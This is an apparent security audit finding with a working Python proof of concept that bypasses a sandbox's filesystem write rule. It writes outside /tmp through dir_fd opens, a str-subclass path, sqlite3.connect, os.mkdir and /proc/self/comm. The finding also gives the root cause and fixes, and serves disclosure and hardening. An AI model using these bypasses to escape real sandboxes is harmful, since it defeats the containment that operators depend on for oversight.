# FINDING 8 (filesystem rule bypassed): the hook refuses writes outside /tmp by a lexical check
# of the "open"/os.* event's path, which fails open: the event has no dir_fd; a str subclass is
# taken for a file descriptor; sqlite3.connect (and ATTACH) is not checked. Writable places
# outside /tmp exist: /dev/shm (a tmpfs of tmpfs_bytes), /proc/self/{comm,attr/*,mem,...}.
#
#   $ sbxgate run --policy <permissive policy: everything allowed into the default tier> --format json 08_...py
#   exit_code 0, violations [], stdout "['via-dirfd.txt', 'via-mkdir', 'via-sqlite.db',
#   'via-subclass.txt'] renamed"; while open("/dev/shm/x", "w") alone is refused (exit 159).
#
# Root cause class: path policy enforced on strings in the interpreter instead of by the kernel,
# and every type/argument the check does not understand is allowed. Fix classes: mount /dev/shm
# read-only or size 0 when not needed, Landlock for write access, and fail closed in the hook
# (an argument of an unexpected type, or any dir_fd use, is a violation).
import os, sqlite3

class Path(str):
    pass

# 1. dir_fd: the "open" event has no dir_fd; "note.txt" reads as /tmp/note.txt
shm = os.open("/dev/shm", os.O_RDONLY | os.O_DIRECTORY)
fd = os.open("via-dirfd.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=shm)
os.write(fd, b"written outside the workspace\n")
# 2. a str subclass path is taken for a file descriptor
with open(Path("/dev/shm/via-subclass.txt"), "w") as f:
    f.write("written outside the workspace\n")
# 3. sqlite3.connect is not checked at all ("sqlite3.connect" event)
db = sqlite3.connect("/dev/shm/via-sqlite.db")
db.execute("create table t (x)")
db.commit()
# 4. os.mkdir with dir_fd
os.mkdir("via-mkdir", dir_fd=shm)
# 5. /proc/self/comm and /proc/self/attr are writable files outside /tmp too
d = os.open("/proc/self", os.O_RDONLY | os.O_DIRECTORY)
c = os.open("comm", os.O_WRONLY, dir_fd=d)
os.write(c, b"renamed")
print(sorted(os.listdir("/dev/shm")), open("/proc/self/comm").read())
